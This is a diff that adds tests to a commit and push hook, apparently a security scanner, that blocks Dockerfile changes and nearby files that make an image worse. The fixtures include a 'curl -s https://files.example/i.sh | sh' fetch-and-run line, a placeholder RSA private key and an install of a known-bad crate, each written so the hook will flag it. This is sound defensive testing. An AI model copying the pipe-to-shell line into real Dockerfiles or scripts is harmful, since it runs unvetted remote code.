@@ -130,6 +130,64 @@ def test_a_commit_that_adds_a_finding_is_blocked(git):
     assert git.commit('Cargo.lock', lock(bad='2.0.0', fine='1.0.0')).returncode == 0
 
 
+FINE = 'FROM debian:12-slim\nUSER 1000\nCOPY Cargo.lock /app/\nCMD ["x"]\n'
+ALL = FINE.replace('Cargo.lock', '.')
+PIPED = FINE.replace('COPY', 'RUN curl -s https://files.example/i.sh | sh\nCOPY')
+
+
+def test_a_commit_that_makes_an_image_worse_is_blocked(git):
+    """As diff tells of what is staged; what was there before is no news."""
+    assert git.commit('Dockerfile', FINE).returncode == 0
+    blocked = git.commit('Dockerfile', PIPED)
+    assert blocked.returncode == 1
+    lines = blocked.stderr.splitlines()
+    assert lines[0] == 'strata: 1 new finding blocks this commit' and 'no fix' not in blocked.stderr
+    assert 'LAY008, high' in lines[1] and lines[2].strip() == 'Dockerfile:3'
+    git('commit', '-qm', 'two', '--no-verify')
+    assert git.commit('Dockerfile', PIPED + 'EXPOSE 80\n').returncode == 0
+
+
+@pytest.mark.parametrize('name, content, before, rule', [
+    ('id_rsa', '-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n', ALL, 'LAY013'),
+    ('setup', '#!/bin/sh\ncurl -s https://files.example/i.sh | sh\n',
+     ALL.replace('CMD', 'RUN /app/setup\nCMD'), 'LAY008'),
+])
+def test_a_file_beside_a_dockerfile_that_makes_it_worse(git, hook, name, content, before, rule):
+    git.made('setup', '#!/bin/sh\nexit 0\n')
+    git.made('Dockerfile', before)
+    blocked = git.commit(name, content)
+    assert blocked.returncode == 1 and rule in blocked.stderr, blocked.stderr
+    report = json.loads(hook(git, 'run', 'pre-commit', '-o', 'json', status=1).stdout)
+    assert [f['id'] for f in report['findings'] if f['state'] == 'new' and f['severity'] == 'high'] == [rule]
+    git('rm', '-qf', '--cached', name)
+    git('checkout', '-q', 'HEAD', '--', '.')
+    assert git.commit('file.c', 'int i;\n').returncode == 0
+
+
+def test_what_run_installs_blocks_a_commit(git):
+    git.made('Dockerfile', FINE)
+    installs = FINE.replace('COPY', 'RUN cargo install --locked bad@1.0.0\nCOPY')
+    blocked = git.commit('Dockerfile', installs)
+    assert blocked.returncode == 1 and f'bad 1.0.0: {BAD}' in blocked.stderr, blocked.stderr
+
+
+def test_images_of_a_push(client, server):
+    client.made('Dockerfile', FINE)
+    client('push', '-q', 'origin', 'main')
+    client.made('Dockerfile', PIPED)
+    refused = client.run('push', '-q', 'origin', 'main')
+    assert refused.returncode and 'LAY008' in refused.stderr and 'push to refs/heads/main' in refused.stderr
+    client.made('Dockerfile', FINE)
+    client('push', '-q', 'origin', 'main')
+    client('push', '-q', 'origin', 'main:other')
+
+
+def test_the_policy_of_images_is_the_target_s(git):
+    git.made('strata.toml', '[image]\nmust-be-pinned = ["debian"]\n')
+    blocked = git.commit('Dockerfile', FINE)
+    assert blocked.returncode == 1 and 'IMG003' in blocked.stderr, blocked.stderr
+
+
 def test_what_was_there_before_does_not_block(git):
     git.made('Cargo.lock', lock(bad='1.0.0'))
     fine = git.commit('Cargo.lock', lock(bad='1.1.0', fine='1.0.0'))
